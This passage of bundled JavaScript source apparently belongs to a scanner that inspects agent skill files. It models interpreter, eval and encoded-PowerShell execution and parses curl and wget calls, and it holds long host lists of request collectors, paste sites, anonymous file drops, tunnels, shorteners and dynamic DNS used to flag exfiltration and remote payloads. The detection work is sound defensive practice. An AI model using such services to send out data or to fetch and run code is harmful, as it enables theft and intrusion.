        valued: /^[-/](?:ep|ex[a-z]{0,14}|w(?:in[a-z]{0,9})?|windowstyle|v(?:er[a-z]{0,4})?|inp[a-z]{0,9}|outp[a-z]{0,9}|configurationname)$/iu,
    },
    cmd: { language: 'batch', code: /^\/[ck]$/iu, valued: /^\/t$/iu },
};
/** The interpreter of a command name: `python3.11` is Python; undefined for other commands. */
function interpreterOf(name) {
    const plain = name
        .replace(/^(?:python|pypy|python3|pypy3)[\d.]*w?$/u, 'python')
        .replace(/^pwsh(?:-preview)?$/iu, 'powershell')
        .replace(/^(?:lua|luajit)[\d.]*$/u, 'lua')
        .replace(/^nodejs$|^tsx$|^ts-node$/u, 'node')
        .replace(/^(?:php|perl|ruby)[\d.]+$/u, (found) => found.replace(/[\d.]/gu, ''));
    return Object.hasOwn(INTERPRETERS, plain.toLowerCase()) ? INTERPRETERS[plain.toLowerCase()] : undefined;
}
/** A program that runs code: from an option, from a file, from its input. */
const interpreter = (call) => {
    const kind = interpreterOf(call.name);
    if (!kind)
        return NOTHING;
    const encoded = kind.language === 'powershell' ? encodedArgument(call.args) : undefined;
    if (encoded)
        return runEncoded(call, encoded);
    for (let index = 0; index < call.args.length; index += 1) {
        const arg = call.args[index];
        if (!arg)
            break;
        if (kind.code.test(arg.text))
            return runCode(call, kind, call.args.slice(index + 1));
        if (kind.valued.test(arg.text))
            index += 1;
        else if (arg.text === '-m' && kind.language === 'python')
            return runModule(call, call.args.slice(index + 1));
        else if (/^-(?:f|file)$/iu.test(arg.text) && kind.language === 'powershell')
            return runFile(call, kind, call.args.slice(index + 1));
        else if (arg.text === '-' || arg.text === '/dev/stdin' || (arg.text === '-s' && kind === SHELL))
            return runInput(call, kind);
        else if (!/^[-+]./u.test(arg.text) && !(call.name === 'deno' && arg.text === 'run') && !(call.name === 'bun' && arg.text === 'run')) {
            if (kind.language === 'powershell' && !/\.ps1$/iu.test(arg.text))
                return runCode(call, kind, call.args.slice(index));
            return runFile(call, kind, call.args.slice(index));
        }
    }
    return call.hasInput ? runInput(call, kind) : NOTHING;
};
/** Code in an argument. */
function runCode(call, kind, rest) {
    const [first] = rest;
    if (!first)
        return NOTHING;
    const code = kind.language === 'powershell' || kind.language === 'batch' ? concat(rest, ' ') : first;
    const input = runsItsInput(code) ? originsOf([call.stdin]) : [];
    const deed = note(call, 'evaluate', { target: code.text, flowsFrom: union(code.origins, input) });
    const exact = rest.length === 1 || code === first ? first.exact : undefined;
    const printed = kind.language === undefined || code.text === ''
        ? NOTHING
        : call.reading.nested(kind.language, code, first, exact === undefined ? {} : { exact });
    return derived(union(union(printed.origins, code.origins), deed < 0 ? [] : []), '');
}
/** Words by which code runs other code; without any of them its input is data that it reads. */
const RUNS_CODE = /\b(?:exec|eval|compile|system|popen|spawn|subprocess|child_process|Function|runpy|run_path|marshal|c?pickle|import_module|__import__|vm|require|source|xargs|iex|invoke-expression|sh|bash|zsh|dash|ksh|python[\d.]*|node|perl|ruby|php)\b|`|^\s*\.\s/iu;
/** Whether code in an argument may run what comes in: `python3 -c 'print(json.load(sys.stdin))'` does not. */
function runsItsInput(code) {
    return !code.known || code.text === '' || RUNS_CODE.test(code.text);
}
/** Code on the standard input: a pipe, a here-document, a here-string. */
function runInput(call, kind) {
    const code = call.stdin;
    note(call, 'evaluate', { target: code.known ? code.text : '', flowsFrom: code.origins });
    return kind.language !== undefined && code.known && code.text !== ''
        ? call.reading.nested(kind.language, code, call.place)
        : derived(code.origins);
}
function runFile(call, kind, rest) {
    const [file] = rest;
    if (!file)
        return NOTHING;
    const written = call.reading.files.get(file.text) ?? call.reading.files.get(file.text.replace(/^\.\//u, ''));
    const origins = union(file.origins, written?.origins ?? []);
    note(call, 'execute', { target: commandLine(call), flowsFrom: union(origins, originsOf(rest)) });
    const code = /^\/dev\/fd\/|^<\(/u.test(file.text) ? file : undefined;
    if (code)
        note(call, 'evaluate', { target: code.text, flowsFrom: origins });
    if (written?.text !== undefined && kind.language !== undefined)
        return call.reading.nested(kind.language, literal(written.text, written.origins), call.place);
    return derived(origins);
}
function runModule(call, rest) {
    const [module, ...args] = rest;
    if (module?.text === 'pip')
        return call.run([{ ...module, text: 'pip' }, ...args], call.stdin, call.flags);
    if (module && /^http\.server$|^SimpleHTTPServer$/u.test(module.text))
        note(call, 'listen', { target: commandLine(call) });
    else
        note(call, 'execute', { target: commandLine(call), flowsFrom: originsOf(rest) });
    return NOTHING;
}
/** `-EncodedCommand` and its abbreviations. */
function encodedArgument(args) {
    const at = args.findIndex((arg) => /^[-/]e(?:n?c?|nco[a-z]{0,12})$/iu.test(arg.text) && !/^[-/]ep$/iu.test(arg.text));
    return at === -1 ? undefined : args[at + 1];
}
function runEncoded(call, encoded) {
    const text = encodedCommand(encoded.text);
    const decoded = note(call, 'decode', { target: 'base64', flowsFrom: encoded.origins });
    const origins = union(encoded.origins, decoded < 0 ? [] : [decoded]);
    note(call, 'evaluate', { target: text ?? '', flowsFrom: origins, flags: ['disguised'] });
    return text === undefined ? derived(origins) : call.reading.nested('powershell', literal(text, origins), encoded, { flags: ['decoded'] });
}
/** `eval`: its words as a command line. */
const evaluate = (call) => {
    const code = concat(call.args, ' ');
    note(call, 'evaluate', { target: code.text, flowsFrom: code.origins });
    const [only] = call.args;
    const exact = call.args.length === 1 ? only?.exact : undefined;
    if (!code.known && code.origins.length > 0)
        return derived(code.origins);
    return call.reading.nested('shell', code, call.place, exact === undefined ? {} : { exact });
};
/** `source` and `.`: runs a file in this shell. */
const source = (call) => {
    const [file] = call.args;
    if (!file)
        return NOTHING;
    const written = call.reading.files.get(file.text);
    const origins = union(file.origins, written?.origins ?? []);
    note(call, origins.length > 0 ? 'evaluate' : 'execute', { target: file.text, flowsFrom: origins });
    return NOTHING;
};
/** `xargs`: runs its arguments, with what comes in appended. */
const xargs = (call) => {
    let at = 0;
    while (at < call.args.length && (call.args[at]?.text ?? '').startsWith('-'))
        at += /^-[InLPdEs]$/u.test(call.args[at]?.text ?? '') ? 2 : 1;
    const [command] = call.args.slice(at);
    if (!command)
        return call.stdin;
    const input = {
        ...call.stdin,
        text: call.stdin.known ? call.stdin.text.trim() : '',
        start: command.start,
        end: command.end,
        disguised: false,
    };
    const words = call.args
        .slice(at)
        .map((arg) => arg.text.includes('{}')
        ? { ...arg, text: arg.text.replaceAll('{}', input.text), known: false, origins: union(arg.origins, input.origins) }
        : arg);
    return call.run([...words, input], call.stdin, call.flags);
};
/** A command that runs another: its own options are skipped. */
function prefix(valued, options = {}) {
    return (call) => {
        let at = 0;
        while (at < call.args.length) {
            const text = call.args[at]?.text ?? '';
            if (/^[A-Za-z_]\w{0,80}=/u.test(text))
                at += 1;
            else if (text.startsWith('-') && text.length > 1)
                at += valued.test(text) ? 2 : 1;
            else
                break;
        }
        at += options.operands ?? 0;
        const rest = call.args.slice(at);
        const flags = [...call.flags, ...(options.sudo ? ['sudo'] : []), ...(options.background ? ['background'] : [])];
        return rest.length === 0 ? NOTHING : call.hasInput ? call.run(rest, call.stdin, flags) : call.run(rest, NOTHING, flags);
    };
}
/** `su -c`, `watch`, `script -c`, `ssh-agent`: a command line in one argument. */
const commandInOption = (call) => {
    const at = call.args.findIndex((arg) => /^(?:-c|--command)$/u.test(arg.text));
    const code = at === -1 ? undefined : call.args[at + 1];
    if (!code)
        return NOTHING;
    return call.reading.nested('shell', code, code, code.exact === undefined ? {} : { exact: code.exact });
};

;// CONCATENATED MODULE: ./lib/skills/code/host-lists.js
/** Services that give anyone an address at which requests are collected and shown. */
const COLLECTORS = new Set([
    'webhook.site',
    'webhook.cool',
    'requestbin.com',
    'requestbin.net',
    'requestbin.io',
    'pipedream.net',
    'hookbin.com',
    'hookb.in',
    'beeceptor.com',
    'requestcatcher.com',
    'mockbin.org',
    'mockbin.io',
    'ptsv2.com',
    'ptsv3.com',
    'postb.in',
    'typedwebhook.tools',
    'smee.io',
    'interact.sh',
    'interactsh.com',
    'oast.fun',
    'oast.me',
    'oast.pro',
    'oast.live',
    'oast.site',
    'oast.online',
    'burpcollaborator.net',
    'oastify.com',
    'canarytokens.com',
    'canarytokens.org',
    'dnslog.cn',
    'ceye.io',
    'dnsbin.zhack.ca',
    'bxss.me',
    'xss.ht',
    'rbnd.gl0.eu',
    'requestinspector.com',
    'webhook-test.com',
    'webhookrelay.com',
    'mocky.io',
    'requestly.tech',
    'putsreq.com',
    'httpdump.app',
    'svix.com',
    'webhooks.site',
    'dnslog.store',
    'eyes.sh',
    'log4shell.huntress.com',
    'grabify.link',
    'iplogger.org',
    'iplogger.com',
    '2no.co',
]);
/** Public paste services: what is there today may be another text tomorrow. */
const PASTES = new Set([
    'pastebin.com',
    'paste.ee',
    'rentry.co',
    'rentry.org',
    'ghostbin.com',
    'ghostbin.co',
    'hastebin.com',
    'hastebin.skyra.pw',
    'dpaste.com',
    'dpaste.org',
    'termbin.com',
    'glot.io',
    'ix.io',
    'sprunge.us',
    'paste.rs',
    'pastes.io',
    'paste.ubuntu.com',
    'paste.mozilla.org',
    'privatebin.net',
    'controlc.com',
    'justpaste.it',
    'pastie.org',
    'cl1p.net',
    'paste2.org',
    'p.ip.fi',
    'clbin.com',
    'bpa.st',
    'snippet.host',
    'textbin.net',
    'pasteio.com',
    'katb.in',
    'zerobin.net',
    'nekobin.com',
    'tio.run',
    'paste.c-net.org',
    'telegra.ph',
    'write.as',
    'codepad.org',
    'ideone.com',
]);
/** Anonymous drops for files. */
const FILE_DROPS = new Set([
    '0x0.st',
    'transfer.sh',
    'file.io',
    'gofile.io',
    'catbox.moe',
    'anonfiles.com',
    'bayfiles.com',
    'temp.sh',
    'tmpfiles.org',
    'oshi.at',
    'bashupload.com',
    'ufile.io',
    'filebin.net',
    'wetransfer.com',
    'we.tl',
    'pixeldrain.com',
    'tmp.ninja',
    'uguu.se',
    'pomf.lain.la',
    'x0.at',
    'free.keep.sh',
    'keep.sh',
    'envs.sh',
    'qu.ax',
    'litterbox.catbox.moe',
    'workupload.com',
    'mega.nz',
    'mediafire.com',
    'sendspace.com',
    'zippyshare.com',
    'send.vis.ee',
    'krakenfiles.com',
    'dropmefiles.com',
    'fileditch.com',
    'anonfile.com',
    'siasky.net',
    'cdn.discordapp.com',
    'media.discordapp.net',
]);
/** Tunnels to a machine that has no public address of its own. */
const TUNNELS = new Set([
    'ngrok.io',
    'ngrok.app',
    'ngrok.dev',
    'ngrok-free.app',
    'ngrok-free.dev',
    'trycloudflare.com',
    'localtunnel.me',
    'loca.lt',
    'serveo.net',
    'bore.pub',
    'localhost.run',
    'lhr.life',
    'lhr.rocks',
    'pagekite.me',
    'telebit.io',
    'tunnelto.dev',
    'playit.gg',
    'pinggy.io',
    'pinggy.link',
    'portmap.io',
    'portmap.host',
    'zrok.io',
    'devtunnels.ms',
    'expose.dev',
    'sharedwithexpose.com',
    'packetriot.net',
    'remote.moe',
    'tunnel.pyjam.as',
]);
const SHORTENERS = new Set([
    'bit.ly',
    'tinyurl.com',
    't.ly',
    'cutt.ly',
    'is.gd',
    'v.gd',
    'rb.gy',
    'shorturl.at',
    'ow.ly',
    'goo.gl',
    'buff.ly',
    'rebrand.ly',
    'tiny.cc',
    'bl.ink',
    'soo.gd',
    's.id',
    'shorte.st',
    'adf.ly',
    'clck.ru',
    'git.io',
    't.co',
    'qr.ae',
    'urlz.fr',
    'u.to',
    'surl.li',
    'dub.sh',
    'kutt.it',
    'da.gd',
    'x.gd',
    'l.ead.me',
]);
const DYNAMIC_DNS = new Set([
    'duckdns.org',
    'no-ip.org',
    'no-ip.com',
    'noip.com',
    'ddns.net',
    'hopto.org',
    'zapto.org',
    'sytes.net',
    'dynu.net',
    'dynu.com',
    'dyndns.org',
    'afraid.org',
    'mooo.com',
    'chickenkiller.com',
    'us.to',
    'freemyip.com',
    'myftp.org',
    'myftp.biz',
    'servebeer.com',
    'serveftp.com',
    'servehttp.com',
    'redirectme.net',
    'bounceme.net',
    'gotdns.ch',
    'nip.io',
    'sslip.io',
    'xip.io',
    'changeip.com',
    'dnsdynamic.org',
    'ydns.eu',
    'kozow.com',
    'gleeze.com',
    'loseyourip.com',
]);
/** Incoming webhooks and bots: whoever holds the address reads what is sent. */
const MESSENGER_PATHS = [
    { hosts: new Set(['discord.com', 'discordapp.com']), path: '/api/webhooks' },
    { hosts: new Set(['api.telegram.org']), path: '/bot' },
    { hosts: new Set(['hooks.slack.com']), path: '/' },
    { hosts: new Set(['webhook.office.com']), path: '/' },
    { hosts: new Set(['open.feishu.cn', 'open.larksuite.com']), path: '/open-apis/bot' },
    { hosts: new Set(['oapi.dingtalk.com']), path: '/robot' },
    { hosts: new Set(['qyapi.weixin.qq.com']), path: '/cgi-bin/webhook' },
    { hosts: new Set(['hooks.zapier.com', 'maker.ifttt.com', 'hook.eu1.make.com', 'hook.us1.make.com', 'hook.integromat.com']), path: '/' },
    { hosts: new Set(['ntfy.sh', 'api.pushover.net', 'api.pushbullet.com']), path: '/' },
];
/** Hosts where anyone can put code, and get it served raw. */
const CODE_HOSTS = new Set([
    'github.com',
    'raw.githubusercontent.com',
    'gist.githubusercontent.com',
    'gist.github.com',
    'objects.githubusercontent.com',
    'codeload.github.com',
    'github.io',
    'gitlab.com',
    'gitlab.io',
    'bitbucket.org',
    'bitbucket.io',
    'codeberg.org',
    'sourceforge.net',
    'cdn.jsdelivr.net',
    'unpkg.com',
    'esm.sh',
    'cdnjs.cloudflare.com',
    'raw.github.com',
    'rawgit.com',
    'rawcdn.githack.com',
    'gitee.com',
    'sr.ht',
    'huggingface.co',
    'pages.dev',
    'workers.dev',
    'vercel.app',
    'netlify.app',
    'web.app',
    'firebaseapp.com',
    'herokuapp.com',
    'onrender.com',
    'fly.dev',
    'railway.app',
    'repl.co',
    'replit.dev',
    'glitch.me',
    'deno.dev',
    's3.amazonaws.com',
    'storage.googleapis.com',
    'blob.core.windows.net',
    'r2.dev',
]);
/** Exact hosts from which the vendors of well-known tools serve their installers. */
const INSTALLERS = new Set([
    'astral.sh',
    'sh.rustup.rs',
    'get.docker.com',
    'get.sdkman.io',
    'install.python-poetry.org',
    'bootstrap.pypa.io',
    'deb.nodesource.com',
    'rpm.nodesource.com',
    'bun.sh',
    'bun.com',
    'deno.land',
    'get.pnpm.io',
    'get.volta.sh',
    'fnm.vercel.app',
    'nixos.org',
    'install.determinate.systems',
    'get.helm.sh',
    'get.k3s.io',
    'sdk.cloud.google.com',
    'aka.ms',
    'cli.github.com',
    'ollama.com',
    'ollama.ai',
    'claude.ai',
    'foundry.paradigm.xyz',
    'mise.run',
    'mise.jdx.dev',
    'pixi.sh',
    'starship.rs',
    'ohmyposh.dev',
    'get.rvm.io',
    'brew.sh',
    'chocolatey.org',
    'community.chocolatey.org',
    'get.scoop.sh',
    'get.haskellup.org',
    'get-ghcup.haskell.org',
    'sh.brew.sh',
    'get.pulumi.com',
    'cursor.com',
    'tailscale.com',
    'fly.io',
    'cli.run.nu',
    'rye.astral.sh',
    'rye-up.com',
    'dl.google.com',
    'dl.k8s.io',
    'packages.microsoft.com',
    'download.docker.com',
    'apt.releases.hashicorp.com',
    'awscli.amazonaws.com',
    'dot.net',
    'dotnet.microsoft.com',
    'code.visualstudio.com',
    'julialang.org',
    'install.julialang.org',
    'wasmtime.dev',
    'getcomposer.org',
    'get.symfony.com',
    'laravel.build',
    'php.new',
    'nodejs.org',
    'go.dev',
    'golang.org',
    'release.anza.xyz',
    'release.solana.com',
    'cli.doppler.com',
    'just.systems',
    'taskfile.dev',
    'vercel.com',
    'railway.com',
    'railway.app',
    'get.opentofu.org',
    'get.anchore.io',
    'app.warp.dev',
    'cli.coderabbit.ai',
    'opencode.ai',
    'chatgpt.com',
    'install.duckdb.org',
    'shell.duckdb.org',
    'get.modular.com',
    'cli.moonbitlang.com',
    'micro.mamba.pm',
    'repo.anaconda.com',
    'sentry.io',
    'supabase.com',
    'databricks.com',
    'clickhouse.com',
    'cockroachlabs.com',
    'get.gravitational.com',
    'goteleport.com',
    'stripe.com',
    'convex.dev',
    'dagger.io',
    'dl.dagger.io',
    'encore.dev',
    'grafana.com',
    'get.jetify.com',
    'lmstudio.ai',
    'xmake.io',
    'zed.dev',
    'get.starkli.sh',
    'sh.starkup.dev',
    'get.tuist.io',
    'install.swift.org',
    'swift.org',
]);
/** Vendors and registries whose interfaces skills commonly call. */
const VENDORS = new Set([
    'openai.com',
    'anthropic.com',
    'claude.com',
    'googleapis.com',
    'google.com',
    'microsoft.com',
    'azure.com',
    'windows.net',
    'office.com',
    'live.com',
    'amazonaws.com',
    'amazon.com',
    'aws.amazon.com',
    'api.github.com',
    'cloudflare.com',
    'docker.com',
    'docker.io',
    'ghcr.io',
    'quay.io',
    'slack.com',
    'discord.com',
    'telegram.org',
    'notion.com',
    'notion.so',
    'linear.app',
    'atlassian.com',
    'atlassian.net',
    'jira.com',
    'stripe.com',
    'paypal.com',
    'twilio.com',
    'sendgrid.com',
    'mailgun.net',
    'sentry.io',
    'datadoghq.com',
    'newrelic.com',
    'pagerduty.com',
    'apple.com',
    'icloud.com',
    'facebook.com',
    'x.com',
    'twitter.com',
    'linkedin.com',
    'youtube.com',
    'wikipedia.org',
    'wikimedia.org',
    'wikidata.org',
    'mozilla.org',
    'python.org',
    'rust-lang.org',
    'nodejs.org',
    'kernel.org',
    'ubuntu.com',
    'redhat.com',
    'fedoraproject.org',
    'apache.org',
    'oracle.com',
    'ibm.com',
    'nvidia.com',
    'huggingface.co',
    'replicate.com',
    'cohere.com',
    'cohere.ai',
    'mistral.ai',
    'groq.com',
    'perplexity.ai',
    'openrouter.ai',
    'together.xyz',
    'together.ai',
    'elevenlabs.io',
    'deepgram.com',
    'assemblyai.com',
    'stability.ai',
    'fal.run',
    'fal.ai',
    'runwayml.com',
    'deepseek.com',
    'x.ai',
    'tavily.com',
    'exa.ai',
    'firecrawl.dev',
    'serpapi.com',
    'brave.com',
    'vercel.com',
    'netlify.com',
    'supabase.co',
    'supabase.com',
    'mongodb.com',
    'elastic.co',
    'algolia.com',
    'shopify.com',
    'hubspot.com',
    'salesforce.com',
    'zendesk.com',
    'intercom.io',
    'airtable.com',
    'asana.com',
    'trello.com',
    'figma.com',
    'canva.com',
    'dropbox.com',
    'dropboxapi.com',
    'box.com',
    'zoom.us',
    'spotify.com',
    'nih.gov',
    'ncbi.nlm.nih.gov',
    'ebi.ac.uk',
    'uniprot.org',
    'arxiv.org',
    'crossref.org',
    'semanticscholar.org',
    'openalex.org',
    'europa.eu',
    'nasa.gov',
    'noaa.gov',
    'openstreetmap.org',
    'mapbox.com',
    'open-meteo.com',
    'wttr.in',
    'coingecko.com',
    'coinbase.com',
    'binance.com',
    'kraken.com',
    'etherscan.io',
    'infura.io',
    'alchemy.com',
    'hashicorp.com',
    'terraform.io',
    'databricks.com',
    'snowflakecomputing.com',
    'posthog.com',
    'segment.io',
    'segment.com',
    'mixpanel.com',
    'wandb.ai',
    'langchain.com',
    'pinecone.io',
    'qdrant.io',
    'virustotal.com',
    'shodan.io',
    'nist.gov',
    'mitre.org',
    'osv.dev',
    'yahoo.com',
    'reddit.com',
    'ycombinator.com',
    'stackexchange.com',
    'stackoverflow.com',
]);
/** Installers that their vendors serve from a host of code: the repository's path, in lower case. */
const INSTALLER_PATHS = [
    'homebrew/install',
    'nvm-sh/nvm',
    'ohmyzsh/ohmyzsh',
    'pyenv/pyenv-installer',
    'helm/helm',
    'junegunn/vim-plug',
    'rbenv/rbenv-installer',
    'anchore/syft',
    'anchore/grype',
    'aquasecurity/trivy',
    'golangci/golangci-lint',
    'trufflesecurity/trufflehog',
    'astral-sh/uv',
    'microsoft/apm',
    'conda-forge/miniforge',
    'k3d-io/k3d',
    'ahmetb/kubectx',
    'asdf-vm/asdf',
    'tfutils/tfenv',
    'actions/runner',
    'goreleaser/goreleaser',
    'denoland/deno',
].flatMap((path) => [
    { host: 'raw.githubusercontent.com', path: `/${path}/` },
    { host: 'github.com', path: `/${path}/` },
]);

;// CONCATENATED MODULE: ./lib/skills/code/classify-host.js

const ADDRESS = /^(?:([a-z][a-z0-9+.-]{0,15}):)?\/\/(?:[^/?#\s@]{0,256}@)?(\[[0-9a-f:.]{2,45}\]|[^/?#\s:]{1,253})(?::[^/?#\s]{0,16})?([^\s]{0,2048})/iu;
const BARE = /^(?:[^/?#\s@]{1,64}@)?((?:[\p{L}\p{N}_-]{1,63}\.){1,8}[\p{L}\p{N}-]{1,63}|\[[0-9a-f:.]{2,45}\]|localhost)(?::\d{1,5})?([/?#:][^\s]{0,2048})?$/iu;
/** A part that is filled in when the program runs, in any of the languages read here. */
const FILLED_IN = /[${}<>%*]|^\.|\.$|\u0000/u;
/**
 * What kind of host an address, or a bare host name, points to. Lists hold services by what they offer, never by who used
 * them; membership is by equality or by a suffix at a dot, never by substring.
 */
function classifyHost(address) {
    const trimmed = address.trim().slice(0, 2600);
    const full = ADDRESS.exec(trimmed);
    const bare = full ? null : BARE.exec(trimmed);
    const scheme = (full?.[1] ?? '').toLowerCase();
    const host = (full?.[2] ?? bare?.[1] ?? '').toLowerCase().replace(/\.$/u, '');
    const path = full?.[3] ?? bare?.[2] ?? '';
    const secure = scheme !== 'http' && scheme !== 'ws' && scheme !== 'ftp';
    if (host === '' || FILLED_IN.test(host))
        return { class: classOfTemplate(host, path), host: '', path, secure };
    return { class: classOf(host, path), host, path, secure };
}
/** A host with a filled-in label can still end in the domain of a service that anyone can use: `https://$id.ngrok.io`. */
function classOfTemplate(host, path) {
    const tail = /(?:[}>%*]|\$[A-Za-z_]\w{0,63})\.([a-z0-9.-]{4,80})$/u.exec(host)?.[1];
    if (tail === undefined)
        return 'variable';
    const kind = classOf(tail, path);
    return kind === 'collector' || kind === 'tunnel' || kind === 'dynamic-dns' ? kind : 'variable';
}
function classOf(host, path) {
    const numeric = classOfAddress(host);
    if (numeric !== undefined)
        return numeric;
    if (host === 'localhost' || /(?:^|\.)(?:localhost|local|internal|lan|home\.arpa)$/u.test(host)) {
        return host === 'metadata.google.internal' ? 'cloud-metadata' : 'local';
    }
    if (isExample(host))
        return 'example';
    if (host.endsWith('.onion'))
        return 'onion';
    if (/(?:^|\.)xn--/u.test(host) || /[^\x00-\x7f]/u.test(host))
        return 'punycode';
    for (const prefix of MESSENGER_PATHS)
        if (onList(host, prefix.hosts) && path.startsWith(prefix.path))
            return 'messenger';
    for (const [kind, list] of SERVICES)
        if (onList(host, list))
            return kind;
    if (INSTALLERS.has(host) || INSTALLER_PATHS.some((known) => known.host === host && path.toLowerCase().startsWith(known.path)))
        return 'installer';
    if (onList(host, CODE_HOSTS))
        return 'code-host';
    return onList(host, VENDORS) || isPackageRegistry(host) ? 'vendor' : 'named';
}
const SERVICES = [
    ['collector', COLLECTORS],
    ['paste', PASTES],
    ['file-drop', FILE_DROPS],
    ['tunnel', TUNNELS],
    ['shortener', SHORTENERS],
    ['dynamic-dns', DYNAMIC_DNS],
];
/** True when the host or one of the domains above it is on the list. */
function onList(host, list) {
    for (let from = 0; from !== -1;) {
        const domain = host.slice(from);
        if (list.has(domain))
            return true;
        const dot = host.indexOf('.', from);
        from = dot === -1 ? -1 : dot + 1;
    }
    return false;
}
/**
 * The public registries of package managers, by who runs them and where: their full addresses are the configuration of
 * whoever installs, and are written down nowhere else in this project either.
 */
const REGISTRY_OPERATORS = {
    crates: 'io',
    debian: 'org',
    npmjs: 'com org',
    packagist: 'org',
    pypi: 'org',
    pythonhosted: 'org',
    rubygems: 'org',
    yarnpkg: 'com',
};
function isPackageRegistry(host) {
    const [top = '', name = ''] = host.split('.').reverse();
    return Object.hasOwn(REGISTRY_OPERATORS, name) && REGISTRY_OPERATORS[name]?.split(' ').includes(top) === true;
}
function isExample(host) {
    return (/(?:^|\.)example(?:\.(?:com|net|org|edu))?$/u.test(host) ||
        /(?:^|\.)(?:test|invalid)$/u.test(host) ||
        /^(?:your|my|some|the)[-_.]?(?:host|server|domain|site|app|api|company|org|instance|endpoint|url|webhook)\b/u.test(host) ||
        /^(?:www\.|api\.)?(?:your|my)-?(?:domain|company|site|app|server|host|org)\./u.test(host));
}
/** Addresses in numbers, also in the forms that inet_aton(3) accepts: one number, hexadecimal, octal. */
function classOfAddress(host) {
    if (host.startsWith('['))
        return classOfIpv6(host.slice(1, -1));
    const value = ipv4Of(host);
    if (value === undefined)
        return undefined;
    const a = value >>> 24;
    const b = (value >>> 16) & 255;
    if (value === 0xa9fea9fe || value === 0x646464c8)
        return 'cloud-metadata';
    if (a === 127 || value === 0)
        return 'local';
    if (a === 10 ||
        (a === 192 && b === 168) ||
        (a === 172 && b >= 16 && b < 32) ||
        (a === 169 && b === 254) ||
        (a === 100 && b >= 64 && b < 128)) {
        return 'private';
    }
    const net = value >>> 8;
    return net === 0xc00002 || net === 0xc63364 || net === 0xcb0071 ? 'example' : 'raw-ip';
}
function classOfIpv6(address) {
    if (address === '::1' || address === '::')
        return 'local';
    if (/^(?:fc|fd|fe[89ab])/u.test(address))
        return 'private';
    return address.startsWith('2001:db8:') ? 'example' : 'raw-ip';
}
function ipv4Of(host) {
    const parts = host.split('.');
    if (parts.length > 4 || (parts.length === 1 && !/^(?:0x[0-9a-f]{6,8}|\d{8,10})$/u.test(host)))
        return undefined;
    const numbers = [];
    for (const part of parts) {
        if (!/^(?:0x[0-9a-f]{1,8}|\d{1,11})$/u.test(part))
            return undefined;
        numbers.push(part.startsWith('0x') ? Number.parseInt(part, 16) : Number.parseInt(part, part.length > 1 && part.startsWith('0') ? 8 : 10));
    }
    const last = numbers.pop() ?? 0;
    if (parts.length < 4 && parts.length > 1 && !host.includes('0x'))
        return undefined;
    if (numbers.some((number) => !(number <= 255)) || !(last < 256 ** (4 - numbers.length)))
        return undefined;
    return (numbers.reduce((sum, number, index) => sum + number * 256 ** (3 - index), 0) + last) >>> 0;
}

;// CONCATENATED MODULE: ./lib/skills/code/shell/commands/network.js




const CURL = {
    short: 'oHdXAeubcFTxmwKEYyzrCDQtPU',
    long: new Set('data data-raw data-ascii data-binary data-urlencode json form form-string upload-file output output-dir header request user-agent referer user cookie cookie-jar proxy max-time connect-timeout url url-query config cert key cacert capath resolve connect-to retry retry-delay retry-max-time write-out range limit-rate interface max-redirs dump-header proto doh-url dns-servers local-port max-filesize netrc-file oauth2-bearer aws-sigv4 tlsv1 ciphers variable'.split(' ')),
};
const WGET = {
    short: 'OPoaiUtTQewlADRIX',
    long: new Set('output-document directory-prefix output-file append-output input-file header user-agent referer post-data post-file body-data body-file method tries timeout wait user password certificate private-key load-cookies save-cookies execute'.split(' ')),
};
/** curl(1). */
const curl = (call) => {
    const parsed = parseOptions(call.args, CURL);
    const bodies = valuesOf(parsed, 'd', 'data', 'data-raw', 'data-ascii', 'data-binary', 'data-urlencode', 'json', 'F', 'form', 'form-string', 'url-query');
    const payload = [...bodies.map((body) => bodyOf(call, body)), ...valuesOf(parsed, 'T', 'upload-file').map((file) => fileOf(call, file))];
    const sends = payload.length > 0 || /^(?:POST|PUT|PATCH)$/iu.test(valuesOf(parsed, 'X', 'request')[0]?.text ?? '');
    const headers = valuesOf(parsed, 'H', 'header', 'A', 'user-agent', 'b', 'cookie', 'u', 'user', 'e', 'referer');
    const address = valuesOf(parsed, 'url')[0] ?? parsed.operands.find((operand) => looksLikeAddress(operand)) ?? parsed.operands[0];
    if (!address)
        return NOTHING;
    const answer = call.reading.request({
        name: call.name,
        address,
        payload: [...payload, ...headers, ...valuesOf(parsed, 'x', 'proxy')],
        sends,
        flags: requestFlags(call, parsed),
    }, call.place);
    return deliver(call, parsed, answer, address);
};
function requestFlags(call, parsed) {
    return [...call.flags, ...(hasOption(parsed, 'k', 'insecure', 'no-check-certificate') ? ['insecure'] : [])];
}
/** Where a download goes: a file that is named, one that the address names (`-O`), or the pipe. */
function deliver(call, parsed, answer, address) {
    const file = valuesOf(parsed, 'o', 'output')[0];
    const remote = hasOption(parsed, 'O', 'remote-name', 'J');
    if (file && file.text !== '-') {
        if (!/^\/dev\/null$|^NUL$/u.test(file.text))
            call.reading.writePath(file, answer, call.name, call.place);
        return NOTHING;
    }
    if (!remote)
        return answer;
    call.reading.writePath(literal(baseName(address.text)), answer, call.name, call.place);
    return NOTHING;
}
/** The last segment of an address, without its query. */
function baseName(address) {
    return /([^/?#\s]{1,200})(?:[?#][^\s]{0,500})?$/u.exec(address.slice(0, 800))?.[1] ?? '';
}
/** `@file`, `name=@file`, `name=<file`, `@-`, or the data itself. */
function bodyOf(call, body) {
    const file = /^(?:[\w.[\]-]{0,60}=)?[@<](.{1,500})$/su.exec(body.text);
    if (!file)
        return body;
    const name = cut(body, body.text.length - (file[1] ?? '').length);
    return fileOf(call, { ...name, text: name.text.replace(/;(?:type|filename)=.{0,200}$/u, '') });
}
function fileOf(call, file) {
    return /^(?:-|\.|\/dev\/stdin)$/u.test(file.text) ? call.stdin : call.reading.readPath(file, call.name, call.place);
}
function looksLikeAddress(arg) {
    return /^[a-z][a-z0-9+.-]{0,15}:\/\//iu.test(arg.text) || /^["']?\$/u.test(arg.text) || classifyHost(arg.text).host !== '';
}
/** wget(1). */
const wget = (call) => {
    const parsed = parseOptions(call.args, WGET);
    const files = valuesOf(parsed, 'post-file', 'body-file').map((file) => fileOf(call, file));
    const payload = [...valuesOf(parsed, 'post-data', 'body-data'), ...files];
    const address = parsed.operands.find((operand) => looksLikeAddress(operand)) ?? parsed.operands[0];
    if (!address)
        return NOTHING;
    const answer = call.reading.request({
        name: call.name,
        address,
        payload: [...payload, ...valuesOf(parsed, 'header', 'U', 'user-agent')],
        sends: payload.length > 0,
        flags: requestFlags(call, parsed),
    }, call.place);
    const target = valuesOf(parsed, 'O', 'output-document')[0];
    if (target?.text === '-' || target?.text === '/dev/stdout')
        return answer;
